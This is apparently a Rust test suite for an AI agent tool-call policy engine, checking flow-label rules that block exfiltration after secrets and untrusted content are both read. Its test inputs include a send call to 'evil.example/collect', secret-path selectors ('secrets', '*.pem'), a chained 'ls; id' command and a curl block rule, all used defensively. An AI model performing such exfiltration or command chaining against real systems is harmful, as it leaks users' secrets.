//! Flow rules (`spec.flows`) through the public API: which calls set which
//! labels, where flow rules sit in the decision order, validation, and the
//! property that labels only ever make a verdict stricter.

use proptest::prelude::*;
use serde_json::{Map, Value, json};
use toolgate_policy::{
    Call, CompiledPolicy, Context, Decision, LabelSet, PolicyError, Provenance, Reason, Verdict,
    load,
};

/// The lethal trifecta: a run that read a secret and something untrusted
/// may not send anything out, and needs a human to push.
const TRIFECTA: &str = r#"
mode: rules
rules:
  reader: {allow: ["*"]}
  fetch: {allow: ["*"]}
  send: {allow: ["*"]}
  bash: {allow: ["ls *", "curl *"], escalate: ["rm *"]}
  git.push: {allow: ["*"]}
  workspace.read: {allow: ["*"]}
effects:
  reader: {sideEffect: WORKSPACE_READ, risk: low, readOnly: true}
  fetch: {sideEffect: NETWORK_READ, risk: low}
  send: {sideEffect: NETWORK_WRITE, risk: write}
  bash: {sideEffect: PROCESS_EXEC, risk: high}
  git.push: {sideEffect: EXTERNAL_WRITE, risk: high}
  workspace.read: {sideEffect: WORKSPACE_READ, risk: low}
egress:
  allowHosts: ["*"]
flows:
  labels:
    untrusted: {sideEffects: [NETWORK_READ], provenance: [EXTERNAL_UNTRUSTED]}
    private: {tools: [reader], match: ["**/secrets/**", "*.pem"]}
  rules:
    - name: no-exfiltration
      when: [untrusted, private]
      deny: {sideEffects: [NETWORK_WRITE, EXTERNAL_WRITE], tools: [bash]}
    - when: [untrusted]
      escalate: {tools: ["git.*"]}
"#;

fn compile(yaml: &str) -> CompiledPolicy {
    CompiledPolicy::compile("p", &load::from_str(yaml).expect("parses"), &[]).expect("compiles")
}

fn compile_err(yaml: &str) -> PolicyError {
    match load::from_str(yaml) {
        Err(e) => e,
        Ok(spec) => CompiledPolicy::compile("p", &spec, &[]).expect_err("must be refused"),
    }
}

fn args(v: Value) -> Map<String, Value> {
    v.as_object().cloned().expect("object")
}

fn decide(p: &CompiledPolicy, tool: &str, arguments: Value, labels: &[&str]) -> Verdict {
    let arguments = args(arguments);
    p.evaluate(
        &Call {
            tool,
            action: None,
            arguments: &arguments,
        },
        &Context {
            labels: p.flow_labels(labels.iter().copied()),
            ..Context::at(jiff::Timestamp::UNIX_EPOCH)
        },
    )
}

fn sets(
    p: &CompiledPolicy,
    tool: &str,
    arguments: Value,
    provenance: Option<Provenance>,
) -> Vec<String> {
    let arguments = args(arguments);
    let set = p.flow_labels_set_by(
        &Call {
            tool,
            action: None,
            arguments: &arguments,
        },
        provenance,
    );
    p.flow_label_names(set)
        .into_iter()
        .map(str::to_owned)
        .collect()
}

#[test]
fn calls_set_the_labels_their_selectors_name() {
    let p = compile(TRIFECTA);
    assert_eq!(
        sets(&p, "fetch", json!({"url": "https://example.com"}), None),
        ["untrusted"]
    );
    assert_eq!(
        sets(&p, "reader", json!({"path": "app/secrets/db.txt"}), None),
        ["private"]
    );
    assert_eq!(
        sets(&p, "reader", json!({"path": "keys/server.pem"}), None),
        ["private"]
    );
    // `tools` and `match` together: the reader of an ordinary file is not private.
    assert!(sets(&p, "reader", json!({"path": "src/main.rs"}), None).is_empty());
    // Provenance sets a label on its own, whatever the tool.
    assert_eq!(
        sets(
            &p,
            "workspace.read",
            json!({"path": "notes.md"}),
            Some(Provenance::ExternalUntrusted)
        ),
        ["untrusted"]
    );
    assert!(
        sets(
            &p,
            "workspace.read",
            json!({"path": "notes.md"}),
            Some(Provenance::InternalTool)
        )
        .is_empty()
    );
    // A path is matched in its one spelling, as the rules see it.
    assert_eq!(
        sets(&p, "reader", json!({"path": "app/./x/../secrets/k"}), None),
        ["private"]
    );
    // An unknown tool sets nothing (it is denied anyway).
    assert!(sets(&p, "nope", json!({}), None).is_empty());
}

#[test]
fn the_trifecta_denies_sending_out_only_with_both_labels() {
    let p = compile(TRIFECTA);
    let send = json!({"url": "https://evil.example/collect"});
    assert_eq!(
        decide(&p, "send", send.clone(), &[]).verdict,
        Decision::Allow
    );
    assert_eq!(
        decide(&p, "send", send.clone(), &["private"]).verdict,
        Decision::Allow
    );
    assert_eq!(
        decide(&p, "send", send.clone(), &["untrusted"]).verdict,
        Decision::Allow
    );
    let v = decide(&p, "send", send, &["untrusted", "private"]);
    assert_eq!((v.verdict, v.reason), (Decision::Deny, Reason::FlowRule));
    assert_eq!(
        v.matched_rule.as_deref(),
        Some("flow:no-exfiltration when private+untrusted")
    );
    // `tools: [bash]` is selected whatever the side effect; reads are not.
    let v = decide(
        &p,
        "bash",
        json!({"command": "ls /tmp"}),
        &["untrusted", "private"],
    );
    assert_eq!(v.reason, Reason::FlowRule);
    let v = decide(
        &p,
        "fetch",
        json!({"url": "https://a.example"}),
        &["untrusted", "private"],
    );
    assert_eq!(v.verdict, Decision::Allow);
}

#[test]
fn a_flow_escalation_only_tightens_an_allow() {
    let p = compile(TRIFECTA);
    let v = decide(&p, "git.push", json!({"remote": "origin"}), &["untrusted"]);
    assert_eq!(
        (v.verdict, v.reason),
        (Decision::Escalate, Reason::FlowEscalate)
    );
    assert_eq!(
        v.matched_rule.as_deref(),
        Some("flow:rules[1] when untrusted")
    );
    // A tier escalation stays the tier's.
    let v = decide(&p, "bash", json!({"command": "rm -r x"}), &["untrusted"]);
    assert_eq!(v.reason, Reason::EscalateRule);
    // A denial is never loosened into an escalation.
    let deny = TRIFECTA.replace("git.push: {allow: [\"*\"]}", "git.push: {deny: [\"*\"]}");
    let v = decide(
        &compile(&deny),
        "git.push",
        json!({"remote": "origin"}),
        &["untrusted"],
    );
    assert_eq!(v.reason, Reason::DenyRule);
}

#[test]
fn flow_rules_sit_after_hardline_and_before_the_mode() {
    // allowAll: flow rules still apply; hardline still comes first.
    let yaml = TRIFECTA
        .replace("mode: rules", "mode: allowAll")
        .replace("egress:", "hardline:\n  commands: [\"curl *\"]\negress:");
    let p = compile(&yaml);
    let both = ["untrusted", "private"];
    let v = decide(&p, "send", json!({"url": "https://x.example"}), &both);
    assert_eq!(v.reason, Reason::FlowRule);
    let v = decide(&p, "bash", json!({"command": "curl x"}), &both);
    assert_eq!(v.reason, Reason::HardlineCommand);
    // A flow denial comes before shell control and the tiers.
    let p = compile(TRIFECTA);
    let v = decide(&p, "bash", json!({"command": "ls; id"}), &both);
    assert_eq!(v.reason, Reason::FlowRule);
}

#[test]
fn trial_modes_report_flow_verdicts() {
    let p = compile(&format!("{TRIFECTA}\nenforcement: dryRun\n"));
    let v = decide(
        &p,
        "send",
        json!({"url": "https://x.example"}),
        &["untrusted", "private"],
    );
    assert_eq!(v.verdict, Decision::Allow);
    assert_eq!(v.would_reason, Some(Reason::FlowRule));
}

#[test]
fn labels_unknown_to_the_profile_mean_nothing() {
    let p = compile(TRIFECTA);
    assert_eq!(
        p.flow_labels(["private", "gone", "untrusted"]),
        p.flow_labels(["untrusted", "private"])
    );
    assert!(p.flow_labels(["gone"]).is_empty());
    assert_eq!(
        p.flow_label_names(p.flow_watched()),
        ["private", "untrusted"]
    );
    assert_eq!(p.flow_scope(), Some(toolgate_policy::FlowScope::Run));
    let plain = compile("mode: allowAll\neffects:\n  x: {sideEffect: NONE, risk: low}\n");
    assert_eq!(plain.flow_scope(), None);
    assert!(plain.flow_labels(["private"]).is_empty());
}

#[test]
fn flows_are_part_of_the_policy_version() {
    let a = compile(TRIFECTA);
    let b = compile(&TRIFECTA.replace("\"*.pem\"", "\"*.key\""));
    assert_ne!(a.version().version, b.version().version);
}

#[test]
fn bad_flows_are_refused_with_the_field() {
    let cases = [
        (
            "when: [untrusted, private]",
            "when: [untrusted, secret]",
            "spec.flows.rules[0].when[1]",
        ),
        (
            "      deny: {sideEffects: [NETWORK_WRITE, EXTERNAL_WRITE], tools: [bash]}",
            "      deny: {}",
            "spec.flows.rules[0].deny",
        ),
        (
            "    - when: [untrusted]\n      escalate: {tools: [\"git.*\"]}",
            "    - when: [untrusted]\n      escalate: {tools: [\"git.*\"]}\n      deny: {tools: [x]}",
            "spec.flows.rules[1]",
        ),
        (
            "    - when: [untrusted]\n",
            "    - when: []\n",
            "spec.flows.rules[1].when",
        ),
        (
            "    private: {",
            "    Private: {",
            "spec.flows.labels.Private",
        ),
        (
            "name: no-exfiltration",
            "name: \"no exfiltration\"",
            "spec.flows.rules[0].name",
        ),
    ];
    for (from, to, field) in cases {
        assert!(TRIFECTA.contains(from), "{from}");
        let err = compile_err(&TRIFECTA.replace(from, to));
        assert_eq!(err.field(), Some(field), "{to}: {err}");
    }
    // Unknown fields and values are refused by the loader.
    let err =
        compile_err(&TRIFECTA.replace("  rules:\n    - name", "  rulez: []\n  rules:\n    - name"));
    assert_eq!(err.code(), "profile_unknown_field", "{err}");
    let err =
        compile_err(&TRIFECTA.replace("provenance: [EXTERNAL_UNTRUSTED]", "provenance: [TRUSTED]"));
    assert!(err.to_string().contains("TRUSTED"), "{err}");
    let err = compile_err(&TRIFECTA.replace("flows:\n", "flows:\n  scope: cluster\n"));
    assert!(err.to_string().contains("cluster"), "{err}");
}

#[test]
fn at_most_64_labels() {
    let labels: String = (0..65)
        .map(|i| format!("    l{i}: {{tools: [x]}}\n"))
        .collect();
    let yaml = format!(
        "mode: allowAll\neffects:\n  x: {{sideEffect: NONE, risk: low}}\nflows:\n  labels:\n{labels}"
    );
    assert_eq!(compile_err(&yaml).field(), Some("spec.flows.labels"));
}

/// Restrictiveness: allow < escalate < deny.
fn rank(d: Decision) -> u8 {
    match d {
        Decision::Allow => 0,
        Decision::Escalate => 1,
        Decision::Deny => 2,
    }
}

proptest! {
    /// More labels never loosen a verdict: a call decided with labels L is
    /// at least as strict with any superset of L.
    #[test]
    fn more_labels_are_never_more_permissive(
        small in 0u64..4,
        extra in 0u64..4,
        tool in prop::sample::select(vec!["reader", "fetch", "send", "bash", "git.push", "workspace.read"]),
        text in prop::sample::select(vec!["ls x", "rm -r y", "curl z", "app/secrets/k", "a; b", "https://h.example/p"]),
        allow_all in any::<bool>(),
    ) {
        let yaml = if allow_all { TRIFECTA.replace("mode: rules", "mode: allowAll") } else { TRIFECTA.to_owned() };
        let p = compile(&yaml);
        let arguments = args(json!({"command": text, "path": text, "url": text}));
        let call = Call { tool, action: None, arguments: &arguments };
        let at = |bits: u64| p.evaluate(&call, &Context {
            labels: LabelSet::from_bits(bits),
            ..Context::at(jiff::Timestamp::UNIX_EPOCH)
        });
        let superset = small | extra;
        let (less, more) = (at(small), at(superset));
        prop_assert!(rank(less.verdict) <= rank(more.verdict),
            "{tool} {text}: {:?} with {small:b} but {:?} with {superset:b}", less.reason, more.reason);
        prop_assert_eq!(more.reason.decision(), more.verdict);
        // A call no flow rule selects is decided without its run's labels.
        if !p.flow_rules_select(&call, None) {
            prop_assert_eq!((less.verdict, less.reason), (more.verdict, more.reason));
        }
    }
}

#[test]
fn only_calls_a_rule_can_select_need_the_runs_labels() {
    let p = compile(TRIFECTA);
    let selects = |tool: &str, arguments: Value| {
        let arguments = args(arguments);
        p.flow_rules_select(
            &Call {
                tool,
                action: None,
                arguments: &arguments,
            },
            None,
        )
    };
    assert!(selects("send", json!({"url": "https://x.example"})));
    assert!(selects("bash", json!({"command": "ls"})));
    assert!(selects("git.push", json!({"remote": "origin"})));
    assert!(!selects("reader", json!({"path": "app/secrets/k"})));
    assert!(!selects("fetch", json!({"url": "https://x.example"})));
    // For every call no rule selects, the labels cannot change the verdict.
    for (tool, arguments) in [
        ("reader", json!({"path": "app/secrets/k"})),
        ("fetch", json!({"url": "https://x.example"})),
    ] {
        let all = decide(&p, tool, arguments.clone(), &["untrusted", "private"]);
        let none = decide(&p, tool, arguments, &[]);
        assert_eq!((all.verdict, all.reason), (none.verdict, none.reason));
    }
    let plain = compile("mode: allowAll\neffects:\n  x: {sideEffect: NONE, risk: low}\n");
    let empty = Map::new();
    let call = Call {
        tool: "x",
        action: None,
        arguments: &empty,
    };
    assert!(!plain.flow_rules_select(&call, None));
}

#[test]
fn flow_selectors_name_tools_through_aliases() {
    let yaml = TRIFECTA
        .replace("mode: rules", "mode: rules\naliases: {shell: bash}")
        .replace(
            "deny: {sideEffects: [NETWORK_WRITE, EXTERNAL_WRITE], tools: [bash]}",
            "deny: {tools: [shell]}",
        );
    let p = compile(&yaml);
    let v = decide(
        &p,
        "shell",
        json!({"command": "ls"}),
        &["untrusted", "private"],
    );
    assert_eq!(v.reason, Reason::FlowRule, "{v:?}");
    let v = decide(
        &p,
        "bash",
        json!({"command": "ls"}),
        &["untrusted", "private"],
    );
    assert_eq!(v.reason, Reason::FlowRule, "{v:?}");
    // Only a profile whose selectors name a provenance needs it before a read.
    assert!(compile(TRIFECTA).flows_use_provenance());
    assert!(
        !compile(&TRIFECTA.replace(", provenance: [EXTERNAL_UNTRUSTED]", ""))
            .flows_use_provenance()
    );
}
